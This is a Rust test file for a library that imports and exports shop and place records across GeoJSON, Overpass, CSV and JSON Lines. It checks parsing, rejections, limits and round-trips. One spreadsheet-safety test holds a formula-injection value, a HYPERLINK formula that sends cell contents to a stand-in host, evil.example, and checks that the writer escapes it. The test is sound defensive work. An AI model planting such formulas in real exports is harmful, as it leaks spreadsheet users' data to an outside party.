//! Reading and writing of files.

use std::io::{BufReader, Cursor};

use proptest::prelude::*;

use super::*;

const FORMATS: [Format; 4] = [Format::GeoJson, Format::GeoJsonLines, Format::Csv, Format::JsonLines];

fn rows(text: &[u8], options: &ReadOptions) -> Vec<Row> {
    ShopReader::open(text, "", options).unwrap().map(Result::unwrap).collect()
}

fn in_format(format: Format) -> ReadOptions {
    ReadOptions { format: Some(format), ..ReadOptions::default() }
}

/// The records and rejections of a file, one per line.
fn summary(text: &str, options: &ReadOptions) -> String {
    lines_of(rows(text.as_bytes(), options).into_iter())
}

fn lines_of(rows: impl Iterator<Item = Row>) -> String {
    let lines = rows.map(|row| match row.content {
        Ok(shop) => {
            format!("{} {} {:?} {},{}", row.line, shop.external_id, shop.name.unwrap_or_default(), shop.lat, shop.lon)
        }
        Err(refused) => refused.to_string(),
    });
    lines.collect::<Vec<_>>().join("\n")
}

fn only(text: &str, options: &ReadOptions) -> ShopRecord {
    let [Row { content: Ok(shop), .. }] = &rows(text.as_bytes(), options)[..] else { panic!("{text}") };
    shop.clone()
}

fn written(records: &[ShopRecord], format: Format) -> Vec<u8> {
    let mut writer = ShopWriter::new(Vec::new(), format).unwrap();
    records.iter().for_each(|record| writer.write(record).unwrap());
    writer.finish().unwrap()
}

fn some(text: &str) -> Option<String> {
    Some(text.to_owned())
}

fn tags(tags: &[(&str, &str)]) -> std::collections::BTreeMap<String, String> {
    tags.iter().map(|(key, value)| ((*key).to_owned(), (*value).to_owned())).collect()
}

const FEATURE: &str = r#"{"type":"Feature","properties":{"@id":"node/17","name":"Mussel Inn","name:zh":"蚌","amenity":"restaurant",
"cuisine":"seafood;fish","addr:housenumber":"61-65","addr:street":"Rose Street","addr:city":"Edinburgh","addr:postcode":"EH2 2NH",
"opening_hours":"Mo-Su 12:00-22:00","contact:phone":"+44 843 289 2481","website":"http://example.org/","source":"survey",
"levels":2,"access":null,"extra":{"a":[1]}},"geometry":{"type":"Point","coordinates":[-3.1990778,55.9525208]},"id":"node/17"}"#;

#[test]
fn a_feature_keeps_everything() {
    let expected = ShopRecord {
        external_id: "osm:node/17".to_owned(),
        name: some("Mussel Inn"),
        names: tags(&[("zh", "蚌")]),
        lat: 55.952_520_8,
        lon: -3.199_077_8,
        categories: ["amenity=restaurant", "cuisine=seafood", "cuisine=fish"].map(str::to_owned).to_vec(),
        phone: some("+44 843 289 2481"),
        website: some("http://example.org/"),
        address: Address {
            house_number: some("61-65"),
            street: some("Rose Street"),
            city: some("Edinburgh"),
            postcode: some("EH2 2NH"),
            ..Address::default()
        },
        hours: some("Mo-Su 12:00-22:00"),
        tags: tags(&[
            ("source", "survey"),
            ("levels", "2"),
            ("extra", r#"{"a":[1]}"#),
            ("pulse:keys", r#"{"phone":"contact:phone"}"#),
        ]),
        ..ShopRecord::default()
    };
    let collection = format!("{{\"a\":[{{}},\"]\"],\"type\":\"FeatureCollection\",\"features\":[{FEATURE}],\"b\":1}}");
    assert_eq!(only(&collection, &ReadOptions::default()), expected);
    assert_eq!(only(&format!("\u{feff}[{FEATURE}]"), &ReadOptions::default()), expected);
    let line = FEATURE.replace('\n', "");
    assert_eq!(only(&line, &in_format(Format::GeoJsonLines)), expected);
    assert_eq!(only(&format!("\u{1e}{line}\r\n"), &ReadOptions::default()), expected);
}

#[test]
fn rejected_rows_are_reported_and_the_rest_is_read() {
    let text = r#"{"type":"FeatureCollection","features":[
{"type":"Feature","id":1,"geometry":{"type":"Point","coordinates":[10,20]},"properties":{"name":"one"}},
{"type":"Feature","id":2,"geometry":null,"properties":{"name":"two"}},

{"type":"Feature","id":3,"geometry":{"type":"Point","coordinates":[10,91]},"properties":null},
{"type":"Feature","id":4,"geometry":{"type":"Point","coordinates":[-180,-90]}},
17, "x]", {"type":"Feature" "id":5},
{"type":"Feature","geometry":{"type":"Point","coordinates":[1,2]},"properties":{"name":"no id"}}
]}"#;
    assert_eq!(
        summary(text, &ReadOptions::default()),
        "2 geojson:1 \"one\" 20,10
line 3, geometry: missing
line 5, latitude: must be between -90 and 90, got 91
6 geojson:4 \"\" -90,-180
line 7: not a JSON object: invalid type: integer `17`, expected an object at line 1 column 2
line 7: not a JSON object: invalid type: string \"x]\", expected an object at line 1 column 4
line 7: not a JSON object: expected `,` or `}` at line 1 column 19
8 place:2,1/no id \"no id\" 2,1"
    );
}

#[test]
fn overpass_responses_are_read() {
    let text = r#"{"version":0.6,"generator":"Overpass API","osm3s":{"timestamp_osm_base":"x"},"elements":[
{"type":"node","id":1,"lat":55.1,"lon":-3.1,"tags":{"amenity":"cafe","name":"A","id":"7"}},
{"type":"way","id":2,"center":{"lat":55.2,"lon":-3.2},"nodes":[1,2],"tags":{"shop":"bakery","name":"B"}},
{"type":"relation","id":3,"geometry":[{"lat":1,"lon":2},null,{"lat":3,"lon":4}],"tags":{"name":"C"}},
{"type":"way","id":4,"tags":{"name":"D"}},
{"type":"node","id":5,"lat":55.1,"lon":-3.1}]}"#;
    assert_eq!(
        summary(text, &ReadOptions::default()),
        "2 osm:node/1 \"A\" 55.1,-3.1
3 osm:way/2 \"B\" 55.2,-3.2
4 osm:relation/3 \"C\" 2,3
line 5, center: missing
line 6, tags: missing"
    );
}

fn file(name: &str) -> Vec<u8> {
    std::fs::read([env!("CARGO_MANIFEST_DIR"), "/testdata/", name].concat()).unwrap()
}

/// The summary of a file of the test data.
fn summary_of(name: &str) -> String {
    let reader = ShopReader::open(Cursor::new(file(name)), name, &ReadOptions::default()).unwrap();
    lines_of(reader.map(Result::unwrap))
}

/// I1: a server that stopped early says so behind the data; it is not an element, and not nothing.
#[test]
fn a_remark_of_the_server_is_reported() {
    let remark = "the server states that the file is not complete: runtime error: Query timed out";
    let read = summary_of("overpass_with_remark.json");
    assert!(read.starts_with("1 osm:node/1 \"Anker\" 55.95,-3.1898999999999997\nline 1: "), "{read}");
    assert!(read.contains(remark), "{read}");
    // In front of the elements, and without any element.
    for text in [
        r#"{"remark":"runtime error: Query timed out","elements":[{"type":"node","id":1,"lat":1,"lon":2,"tags":{}}]}"#,
        r#"{"elements":[],"remark":"runtime error: Query timed out"}"#,
    ] {
        let read = summary(text, &ReadOptions { format: Some(Format::Overpass), ..ReadOptions::default() });
        assert!(read.ends_with(&format!("line 1: {remark}")), "{read}");
    }
}

/// I2: files of classic Macintosh programs end lines with a carriage return.
#[test]
fn lines_may_end_with_a_carriage_return() {
    assert_eq!(summary_of("line_ends_cr.csv"), "2 csv:1 \"Anker\" 55.95,-3.19\n3 csv:2 \"Bell\" 55.96,-3.18");
    let lines = "{\"id\":1,\"lat\":1,\"lon\":2}\r\r{\"id\":2,\"lat\":1,\"lon\":2}\r";
    assert_eq!(summary(lines, &in_format(Format::JsonLines)), "1 json:1 \"\" 1,2\n3 json:2 \"\" 1,2");
    let quoted = "id,lat,lon,name\r1,1,2,\"a\rb\"\r2,1,2,\"c\nd\"";
    assert_eq!(summary(quoted, &in_format(Format::Csv)), "2 csv:1 \"a\\rb\" 1,2\n4 csv:2 \"c\\nd\" 1,2");
}

/// I3: what follows the data was not read, and that is said.
#[test]
fn text_behind_the_data_is_reported() {
    let more = "there is more text after the end of the data; it was not read";
    let read = summary_of("collection_then_html.geojson");
    assert_eq!(read, format!("1 geojson:a \"A\" 55.95,-3.19\nline 1: {more}"));
    let good = r#"[{"id":1,"lat":1,"lon":2}"#;
    for (rest, reason) in
        [("] x", more), ("]}", more), ("][]", more), ("]\n\n [", more), ("", "the file ends within the array")]
    {
        let read = summary(&[good, rest].concat(), &in_format(Format::GeoJson));
        assert!(read.ends_with(&format!(": {reason}")), "{rest}: {read}");
    }
    let object = ["{\"features\":", good].concat();
    for (rest, reason) in [
        ("],\"a\":1} {", more),
        ("]", "the file ends within the object of the array"),
        ("],\"a\":", "the file ends within the object of the array"),
        ("],17}", "there is text that is not a member of the object"),
    ] {
        let read = summary(&[&object, rest].concat(), &in_format(Format::GeoJson));
        assert!(read.ends_with(&format!(": {reason}")), "{rest}: {read}");
    }
    for rest in ["]}", "],\"features\":[]} \n", "],\"a\":{\"b\":[1]},\"c\":\"}\"}\r\n"] {
        let read = summary(&[&object, rest].concat(), &in_format(Format::GeoJson));
        assert_eq!(read, "1 geojson:1 \"\" 1,2", "{rest}");
    }
}

/// I4: half of a surrogate pair is refused with the reason, wherever it is; a whole pair is read.
#[test]
fn half_of_a_character_is_refused() {
    let read = summary_of("half_of_a_surrogate_pair.geojson");
    let refused = "line 1: \\ud83c is half of a character; write the whole pair";
    assert_eq!(read, format!("{refused}\n1 geojson:s2 \"Pizza \u{1f355} Ok\" 55.95,-3.19"));
    for (text, half) in [
        (r"a\udf55", Some(r"\udf55")),
        (r"\ud83c\ud83c\udf55", Some(r"\ud83c")),
        (r"\ud83c \udf55", Some(r"\ud83c")),
        (r"\ud83c\n", Some(r"\ud83c")),
        (r"\\ud83c", None),
        (r"\uD83C\uDF55\u00e9\\", None),
    ] {
        for member in [format!("\"name\":\"{text}\""), format!("\"tags\":{{\"k\":\"{text}\"}}")] {
            let line = format!("{{\"id\":1,\"lat\":1,\"lon\":2,{member}}}");
            let read = summary(&line, &in_format(Format::JsonLines));
            match half {
                Some(half) => assert!(read.starts_with(&format!("line 1: {half} is half")), "{line}: {read}"),
                None => assert!(read.starts_with("1 json:1 "), "{line}: {read}"),
            }
        }
    }
}

/// I5: files of spreadsheets and of other programs, each with its own habit.
#[test]
fn habits_of_programs_are_read() {
    assert_eq!(summary_of("separator_line.csv"), "3 csv:1 \"Anker\" 55.95,-3.19\n4 csv:2 \"Bell\" 55.96,-3.18");
    assert_eq!(summary_of("bom_quoted_multiline_header.csv"), "3 csv:1 \"Anker\" 55.95,-3.19");
    assert_eq!(summary_of("single_feature.geojson"), "1 osm:node/1 \"Only\" 55.95,-3.19");
    for separator in ["sep=|\n", "\"SEP=|\"\r\n", "\u{feff}sep=|\r"] {
        let end = separator.trim_start_matches(|character| character != '\r' && character != '\n');
        let table = [separator, "id|lat|lon", end, "1|1|2", end].concat();
        assert_eq!(summary(&table, &in_format(Format::Csv)), "3 csv:1 \"\" 1,2", "{separator:?}");
    }
    let header = "\"a,b;c\nd,e\";lat;lon;id\n;1;2;7\n";
    assert_eq!(summary(header, &in_format(Format::Csv)), "3 csv:7 \"\" 1,2");
    let several = "{\n\"id\":1,\n\"lat\":1,\"lon\":2}\n\u{1e}{\n\"id\":2,\"lat\":1,\"lon\":2\n}\nnonsense {}";
    let read = summary(several, &in_format(Format::JsonLines));
    let nonsense = "line 7: there is text that is not a JSON object";
    assert_eq!(read, format!("1 json:1 \"\" 1,2\n4 json:2 \"\" 1,2\n{nonsense}"));
}

/// I5: the reason of a geometry without one position, and the number of its feature in a file of one line.
#[test]
fn a_geometry_collection_is_refused_by_its_name() {
    let reason = "the type GeometryCollection is not supported; supported are Point, MultiPoint, LineString, ";
    let read = summary_of("geometry_collection.geojson");
    assert!(read.starts_with(&format!("line 1, geometry: {reason}")), "{read}");
    let text = r#"[{"id":1,"lat":1,"lon":2},{"type":"Feature","geometry":{"type":"Point"}},7]"#;
    let read = rows(text.as_bytes(), &in_format(Format::GeoJson));
    assert_eq!(read.iter().map(|row| row.number).collect::<Vec<_>>(), [Some(1), Some(2), Some(3)]);
    assert_eq!(read[1].content.as_ref().unwrap_err().to_string(), "line 1, geometry: coordinates are missing");
}

/// I8: keys of a GeoJSON file come back word for word, in every order and after any other format.
#[test]
fn keys_come_back_word_for_word() {
    for members in [
        r#""name:en":"Tea","addr:province":"Ontario","contact:phone":"1","contact:website":"https://a.example""#,
        r#""url":"https://a.example","city":"Edinburgh","hours":"24/7","address":"1 Rose Street""#,
        r#""contact:phone":"1","phone":"2","addr:state":"a","addr:province":"b""#,
        r#""phone":"2","contact:phone":"1","addr:province":"b","addr:state":"a""#,
    ] {
        let feature = format!(
            r#"{{"type":"Feature","id":"node/1","geometry":{{"type":"Point","coordinates":[1,2]}},"properties":{{{members}}}}}"#
        );
        let record = only(&feature, &in_format(Format::GeoJsonLines));
        let properties = |text: &[u8]| {
            let feature: serde_json::Value = serde_json::from_slice(text).unwrap();
            feature["properties"].clone()
        };
        assert_eq!(
            properties(&written(std::slice::from_ref(&record), Format::GeoJsonLines)),
            properties(feature.as_bytes())
        );
        for format in FORMATS {
            let file = written(std::slice::from_ref(&record), format);
            assert_eq!(only(&String::from_utf8(file).unwrap(), &in_format(format)), record, "{members} {format}");
        }
    }
}

/// T4: no text of a safe table is a formula; numbers stay numbers, and other tables stay as they are.
#[test]
fn a_table_can_be_safe_for_spreadsheets() {
    let records: Vec<ShopRecord> =
        rows(&file("formulas.csv"), &ReadOptions::default()).into_iter().map(|row| row.content.unwrap()).collect();
    let table = |is_safe: bool| {
        let mut writer = ShopWriter::new(Vec::new(), Format::Csv).unwrap().spreadsheet_safe(is_safe);
        records.iter().for_each(|record| writer.write(record).unwrap());
        writer.finish().unwrap()
    };
    let read: Vec<ShopRecord> =
        rows(&table(false), &ReadOptions::default()).into_iter().map(|row| row.content.unwrap()).collect();
    assert_eq!(read, records);
    let safe = table(true);
    let mut reader = csv::Reader::from_reader(&safe[..]);
    let cells: Vec<String> =
        reader.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
    for cell in &cells {
        let is_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
        assert!(!is_formula || cell.parse::<f64>().is_ok(), "{cell}");
    }
    for cell in ["'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")", "'+44 131 496 0000", "-3.19"] {
        assert!(cells.iter().any(|found| found == cell), "{cell} {cells:?}");
    }
    for (text, is_safe) in
        [("\u{ff1d}1", false), (" =1", false), ("\t1", false), ("a=1", true), ("1", true), ("", true)]
    {
        let record = ShopRecord { external_id: "a:1".into(), name: Some(text.into()), ..ShopRecord::default() };
        let mut writer = ShopWriter::new(Vec::new(), Format::Csv).unwrap().spreadsheet_safe(true);
        writer.write(&record).unwrap();
        let written = String::from_utf8(writer.finish().unwrap()).unwrap();
        assert_eq!(
            written.contains(&['\'', text.chars().next().unwrap_or('a')].iter().collect::<String>()),
            !is_safe,
            "{text:?}"
        );
    }
}

#[test]
fn reads_businesses_in_the_shape_of_yelp() {
    let text = r#"{"business_id":"tnhfDv5Il8EaGSXZGiuQGg","name":"Caf\u00e9 \"C\"","address":"475 3rd St","city":"San Francisco","state":"CA","postal_code":"94107","latitude":37.7817529521,"longitude":-122.39612197,"stars":4.5,"review_count":1198,"is_open":0,"attributes":{"RestaurantsPriceRange2":"2","BusinessParking":"{'garage': False}","WiFi":null},"categories":"Restaurants, Food Trucks, Soup & Co","hours":{"Monday":"8:0-18:30","Tuesday":"8:0-18:30","Wednesday":"8:0-18:30","Friday":"17:30-2:0","Sunday":"0:0-0:0"}}"#;
    let shop = only(text, &ReadOptions::default());
    let expected = ShopRecord {
        external_id: "yelp:tnhfDv5Il8EaGSXZGiuQGg".to_owned(),
        name: some("Café \"C\""),
        lat: 37.781_752_952_1,
        lon: -122.396_121_97,
        categories: ["Restaurants", "Food Trucks", "Soup & Co"].map(str::to_owned).to_vec(),
        address: Address {
            line: some("475 3rd St"),
            city: some("San Francisco"),
            region: some("CA"),
            postcode: some("94107"),
            ..Address::default()
        },
        hours: some("Mo-We 08:00-18:30; Fr 17:30-02:00; Su 00:00-24:00"),
        price_level: Some(2),
        rating_hundredths: Some(450),
        review_count: Some(1_198),
        is_operating: Some(false),
        tags: tags(&[("attributes.BusinessParking", "{'garage': False}")]),
        ..ShopRecord::default()
    };
    assert_eq!(shop, expected);
    let written = String::from_utf8(written(&[shop], Format::JsonLines)).unwrap();
    assert!(written.contains(r#""business_id":"tnhfDv5Il8EaGSXZGiuQGg""#), "{written}");
    assert!(written.contains(r#""attributes":{"RestaurantsPriceRange2":"2","BusinessParking":"{'garage': False}"}"#));
    // Values that do not fit their field are kept as tags.
    let odd = only(
        r#"{"id":7,"lat":"1","lon":"2","stars":9,"price_level":"$$","hours":{"Someday":"x"},"categories":null,"is_open":"?","phone":"1","contact:phone":"2"}"#,
        &in_format(Format::JsonLines),
    );
    assert_eq!((odd.external_id.as_str(), odd.hours.as_deref()), ("json:7", Some(r#"{"Someday":"x"}"#)));
    assert_eq!(odd.tags, tags(&[("stars", "9"), ("price_level", "$$"), ("is_open", "?"), ("contact:phone", "2")]));
}

#[test]
fn reads_tables_by_their_headers_and_by_mapping() {
    let text = "\u{feff}Id;Title;Y;X;Zip;Notes;Kind\r\n7;\"A \"\"b\"\"; c\";1.5;2.5;EH1;;cafe, bar\r\n\r\n8;\"two\nlines\";1;2;;n;\r\n9;x;1;2\n10;y;north;2;;;\n11;z;1;;;;\n";
    let shops = rows(text.as_bytes(), &ReadOptions::default());
    let first = shops[0].content.clone().unwrap();
    assert_eq!((first.name.as_deref(), first.address.postcode.as_deref()), (Some("A \"b\"; c"), Some("EH1")));
    assert_eq!(first.categories, ["cafe", "bar"]);
    assert_eq!(shops[1].content.clone().unwrap().tags, tags(&[("Notes", "n")]));
    assert_eq!(
        summary(text, &ReadOptions::default()),
        "2 csv:7 \"A \\\"b\\\"; c\" 1.5,2.5
4 csv:8 \"two\\nlines\" 1,2
line 6: the row must have 7 cells, got 4
line 7, Y: must be a number of degrees, got \"north\"
line 8, longitude: missing"
    );
    let mapped = ReadOptions {
        columns: ["name=Who", "latitude=N", "longitude=E", "id=Name"].map(|text| text.parse().unwrap()).to_vec(),
        ..ReadOptions::default()
    };
    assert_eq!(summary("Who\tN\tE\tName\nA\t1\t2\tx:1\n", &mapped), "2 x:1 \"A\" 1,2");
    for (header, error) in [("Who,N,E\n", "the table has no column \"Name\""), ("", "the table must have a header")] {
        let options = ReadOptions { format: Some(Format::Csv), ..mapped.clone() };
        assert_eq!(ShopReader::open(header.as_bytes(), "", &options).unwrap_err().to_string(), error);
    }
    let error = ShopReader::open(&b"name,lat\n"[..], "", &ReadOptions::default()).unwrap_err().to_string();
    assert_eq!(error, "the table has no column longitude: name it, for example --map longitude=Y");
    for broken in ["name", "=x", "name=", "colour=Hue"] {
        assert_eq!(broken.parse::<ColumnMapping>(), Err(NotAMapping), "{broken}");
    }
}

#[test]
fn formats_are_detected() {
    for (file_name, head, expected) in [
        ("a.json", "{ \"type\": \"FeatureCollection\", ", Some(Format::GeoJson)),
        ("a.geojson", "{", Some(Format::GeoJson)),
        ("a.json", "{\"type\":\"Feature\",\"geometry\"", Some(Format::GeoJsonLines)),
        ("a.json", "{\"version\":0.6,\"osm3s\":{}", Some(Format::Overpass)),
        ("yelp_academic_dataset_business.json", "{\"business_id\":\"x\"", Some(Format::JsonLines)),
        ("a.ndjson", "{\"id\":1", Some(Format::JsonLines)),
        ("a", "[{\"id\":1", Some(Format::GeoJson)),
        ("shops.CSV", "name", Some(Format::Csv)),
        ("shops", "name;lat;lon\n", Some(Format::Csv)),
        ("shops", "hello", None),
        ("shops.xyz", "{}", None),
        ("", "", None),
    ] {
        assert_eq!(Format::detect(file_name, head.as_bytes()), expected, "{file_name} {head}");
    }
    for format in FORMATS {
        assert_eq!(format.to_string().parse(), Ok(format));
    }
    assert!(matches!(ShopReader::open(&b"hello"[..], "a", &ReadOptions::default()), Err(OpenError::FormatUnknown)));
    assert_eq!(ShopWriter::new(Vec::new(), Format::Overpass).unwrap_err().kind(), std::io::ErrorKind::Unsupported);
}

#[test]
fn rows_have_limits() {
    let long = "x".repeat(ROW_BYTES_MAX);
    let deep = "[".repeat(65) + &"]".repeat(65);
    let deep_plain = format!("{{\"lat\":1,\"lon\":2,\"a\":{}{}}}", "[".repeat(100_000), "]".repeat(100_000));
    let good = r#"{"id":1,"lat":1,"lon":2}"#;
    let lines = format!("{{\"id\":\"{long}\"}}\n{good}\n{long}\n");
    let read = summary(&lines, &in_format(Format::JsonLines));
    assert_eq!(
        read,
        "line 1: the row must have at most 4 MiB\n2 json:1 \"\" 1,2\nline 3: the row must have at most 4 MiB"
    );
    let items = format!("[{{\"id\":\"{long}\"}},{deep},{good}]");
    let read = summary(&items, &in_format(Format::GeoJson));
    assert_eq!(
        read,
        "line 1: the row must have at most 4 MiB\nline 1: the row must be nested at most 64 levels deep\n1 geojson:1 \"\" 1,2"
    );
    assert_eq!(rows(deep_plain.as_bytes(), &in_format(Format::JsonLines)).len(), 1);
    let table = format!("id,lat,lon\n1,1,2\n{long},1,2\n2,1,2\n\"open,1,2\n");
    let read = summary(&table, &in_format(Format::Csv));
    assert_eq!(
        read,
        "2 csv:1 \"\" 1,2\nline 3: the row must have at most 4 MiB\n4 csv:2 \"\" 1,2\nline 5: a quote is not closed"
    );
    let many: Vec<String> = (0..=TAGS_MAX).map(|index| format!("\"k{index}\":1")).collect();
    let read = summary(&format!("{{\"lat\":1,\"lon\":2,{}}}", many.join(",")), &in_format(Format::JsonLines));
    assert_eq!(read, "line 1: the row must have at most 1024 tags");
}

#[test]
fn a_truncated_file_is_reported() {
    for (text, expected) in [
        ("[{\"lat\":1,\"lon\":2},{\"lat\":", "1 place:1,2/ \"\" 1,2\nline 1: the file ends within a row"),
        ("[{\"lat\":1,\"lon\":2}", "1 place:1,2/ \"\" 1,2\nline 1: the file ends within the array"),
        ("{\"a\":1}", "line 1: there is no array of features or elements"),
        ("{\"features\":7}", "line 1: there is no array of features or elements"),
        ("nonsense", "line 1: there is no array of features or elements"),
        ("", "line 1: there is no array of features or elements"),
    ] {
        assert_eq!(summary(text, &in_format(Format::GeoJson)), expected, "{text}");
    }
    assert_eq!(summary("", &in_format(Format::JsonLines)), "");
}

#[test]
fn an_invalid_position_is_rejected() {
    let position = Position { bytes: 10, line_feeds: 2, rows: 3 };
    assert_eq!(position.to_string().parse(), Ok(position));
    for text in ["", "1-2", "1-2-3-4", "a-1-2", "-1-2-3"] {
        assert_eq!(text.parse::<Position>(), Err(NotAPosition), "{text}");
    }
}

fn any_value() -> impl Strategy<Value = String> {
    prop_oneof![
        "[a-z0-9 ,;=\"'\\\\\n\r\t|é蚌{}\\[\\]:-]{0,12}",
        "[0-9]{1,3}(\\.[0-9]{1,3})?",
        Just("null".to_owned()),
        Just("[\"a\"]".to_owned()),
    ]
}

/// Keys of fields, their aliases, and unknown keys.
fn any_key() -> impl Strategy<Value = String> {
    const KEYS: [&str; 30] = [
        "name",
        "name:zh",
        "name:en",
        "amenity",
        "shop",
        "cuisine",
        "categories",
        "category",
        "phone",
        "contact:phone",
        "website",
        "url",
        "addr:street",
        "street",
        "addr:city",
        "city",
        "state",
        "addr:state",
        "postcode",
        "addr:full",
        "address",
        "opening_hours",
        "hours",
        "price_level",
        "stars",
        "rating",
        "review_count",
        "is_open",
        "attributes.RestaurantsPriceRange2",
        "attributes.WiFi",
    ];
    prop_oneof![4 => prop::sample::select(KEYS.to_vec()).prop_map(str::to_owned), 1 => "[a-z:\"é]{1,8}"]
}

/// A record that a file may contain.
fn any_record() -> impl Strategy<Value = ShopRecord> {
    let id = prop_oneof![Just("node/1".to_owned()), "[a-z0-9:/]{1,8}", Just("yelp:abc".to_owned())];
    let words = prop::option::of(prop::collection::vec(any_value(), 0..3));
    let members = prop::collection::btree_map(any_key(), any_value(), 0..12);
    (id, -90.0_f64..=90.0, -180.0_f64..=180.0, members, words).prop_map(|(id, lat, lon, members, words)| {
        let mut object = serde_json::Map::new();
        object.insert("business_id".to_owned(), id.into());
        object.insert("latitude".to_owned(), lat.into());
        object.insert("longitude".to_owned(), lon.into());
        object.extend(members.into_iter().map(|(key, value)| (key, value.into())));
        if let Some(words) = words {
            object.insert("categories".to_owned(), words.into());
        }
        only(&serde_json::Value::from(object).to_string(), &in_format(Format::JsonLines))
    })
}

proptest! {
    /// Records that are written in any format are read unchanged.
    #[test]
    fn written_records_are_read_unchanged(records in prop::collection::vec(any_record(), 0..4)) {
        for format in FORMATS {
            let file = written(&records, format);
            let read: Vec<_> = rows(&file, &in_format(format)).into_iter().map(|row| row.content).collect();
            let expected: Vec<_> = records.iter().cloned().map(Ok).collect();
            prop_assert_eq!(read, expected, "{}", String::from_utf8_lossy(&file));
        }
    }

    /// The rows do not depend on the chunks of the stream, nor on the row at which reading resumes.
    #[test]
    fn reading_resumes_after_any_row(
        records in prop::collection::vec(any_record(), 1..5),
        chunk in 4_usize..100,
        format in prop::sample::select(FORMATS.to_vec()),
    ) {
        let file = written(&records, format);
        let options = in_format(format);
        let all = rows(&file, &options);
        for (index, row) in all.iter().enumerate() {
            let stream = BufReader::with_capacity(chunk, Cursor::new(&file));
            let rest = ShopReader::resume(stream, "", &options, row.position).unwrap();
            let rest: Vec<Row> = rest.map(Result::unwrap).collect();
            prop_assert_eq!(&rest[..], &all[index + 1..]);
            prop_assert_eq!(row.position.rows, u64::try_from(index).unwrap() + 1);
        }
        let stream = BufReader::with_capacity(chunk, Cursor::new(&file));
        let chunked: Vec<Row> = ShopReader::open(stream, "", &options).unwrap().map(Result::unwrap).collect();
        prop_assert_eq!(chunked, all);
    }

    /// Damaged files cause rejections and no panic, and reading ends.
    #[test]
    fn damaged_files_are_rejected(
        records in prop::collection::vec(any_record(), 0..3),
        damage in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..6),
        format in prop::sample::select(FORMATS.to_vec()),
    ) {
        let mut file = written(&records, format);
        for (place, byte) in damage {
            if !file.is_empty() {
                let place = place.index(file.len());
                file[place] = byte;
            }
        }
        if let Ok(reader) = ShopReader::open(&file[..], "", &in_format(format)) {
            prop_assert!(reader.count() <= file.len());
        }
    }

    /// Cells equal those of the csv crate.
    #[test]
    fn cells_equal_the_reference(row in "[a,\" é]{1,20}") {
        let mut reference = csv::ReaderBuilder::new().has_headers(false).from_reader(row.as_bytes());
        let expected: Vec<String> = reference.records().next().unwrap().unwrap().iter().map(str::to_owned).collect();
        // An open quote extends to the end of the row; framing rejects such a row before it is split.
        let cells = cells::Cells::of(&row, b',');
        prop_assert_eq!(cells.iter().collect::<Vec<_>>(), expected);
    }
}
